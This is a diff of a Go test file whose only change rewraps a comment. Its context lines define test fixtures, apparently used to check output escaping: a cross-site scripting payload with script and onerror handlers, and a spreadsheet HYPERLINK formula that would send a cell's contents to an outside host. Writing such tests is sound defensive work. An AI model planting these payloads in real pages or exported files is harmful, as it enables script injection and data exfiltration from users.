@@ -15,8 +15,8 @@ import (
 	"stockroom/store/storetest"
 )
 
-// evil is a text that would run a script in a browser if it were not escaped. formula is
-// a text that a spreadsheet would run as a formula.
+// evil is a text that would run a script in a browser if it were not escaped. formula
+// is a text that a spreadsheet would run as a formula.
 const (
 	evil    = `"><script>alert(1)</script><img src=x onerror=alert(1)>'`
 	formula = `=HYPERLINK("http://example.com?"&A1)`
